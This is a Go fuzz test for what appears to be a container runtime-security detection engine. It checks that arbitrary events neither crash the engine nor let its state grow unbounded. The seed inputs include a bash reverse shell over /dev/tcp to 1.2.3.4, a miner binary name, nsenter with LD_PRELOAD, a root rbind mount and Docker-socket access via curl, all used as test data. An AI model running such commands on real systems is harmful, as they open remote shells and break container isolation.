package detect

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/event"
)

// FuzzProcess feeds events built from arbitrary strings and numbers to the
// engine: no input may panic it, and its state must stay bounded.
func FuzzProcess(f *testing.F) {
	f.Add(uint8(event.KindOpen), "/proc/1/ns/net", "net:[4026531840]", "/usr/bin/nsenter", "-t 1 -m", "LD_PRELOAD", "/proc/self/cwd/x.so", int32(-13), uint32(1), true)
	f.Add(uint8(event.KindExec), "/tmp/x", "", "/tmp/xmrig", "sh -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "LD_LIBRARY_PATH", ":", int32(0), uint32(2), true)
	f.Add(uint8(event.KindSyscall), "/", "/x/libnvidia-ml.so.1", "mount", "--rbind / /x/libnvidia-ml.so.1", "", "", int32(0), uint32(0x1000), false)
	f.Add(uint8(event.KindConnect), "/run/docker.sock", "", "/usr/bin/curl", "--unix-socket /run/docker.sock", "KUBERNETES_SERVICE_HOST", "10.96.0.1", int32(1), uint32(443), true)
	f.Add(uint8(event.KindExit), "", "", "", "", "", "", int32(0), uint32(0), false)
	e := newTestEngine(f, nil)
	f.Fuzz(func(t *testing.T, kind uint8, path, raw, exe, args, envName, envVal string, n int32, u uint32, inCtr bool) {
		p := &event.Process{PID: u % 5000, TID: u % 5000, ForkParent: u % 7, Exe: exe, Args: strings.Fields(exe + " " + args),
			Env: []event.EnvVar{{Name: envName, Value: envVal}}, Cwd: raw, CapEff: uint64(u) << 8,
			NS: event.Namespaces{Mnt: u, PID: u % 3, Net: u ^ 5}, Ancestors: []event.Ancestor{{PID: u % 7, Exe: raw}, {PID: 9, Exe: path}}}
		var c *event.Container
		if inCtr {
			c = &event.Container{ID: path + "x", CgroupPath: raw, Image: envVal}
		}
		ev := &event.Event{Kind: event.Kind(kind % 12), Time: t0.Add(time.Duration(u) * time.Millisecond), Process: p, Container: c}
		switch ev.Kind {
		case event.KindOpen:
			ev.File = &event.File{Path: path, RawPath: raw, Flags: u, Result: n, Inode: uint64(u)}
		case event.KindConnect, event.KindEgress:
			a, _ := netip.ParseAddr(envVal)
			ev.Net = &event.Net{UnixPath: path, DAddr: a, DPort: uint16(u), Fd: n % 4, Class: raw}
		case event.KindSyscall:
			ev.Sys = &event.Syscall{Name: exe, Path: path, Path2: raw, Flags: uint64(u), NSInode: u, Fd: n, Fd2: n % 3, FdIsSocket: inCtr}
		case event.KindGPU:
			ev.GPU = &event.GPU{Change: raw, PID: u % 5000}
		}
		if u%11 == 0 {
			ev.Process = nil
		}
		e.Process(ev, func(*event.Event) {})
		if e.State().containers.Len() > e.Settings().Config.StateSize {
			t.Fatalf("state grew past state_size")
		}
	})
}
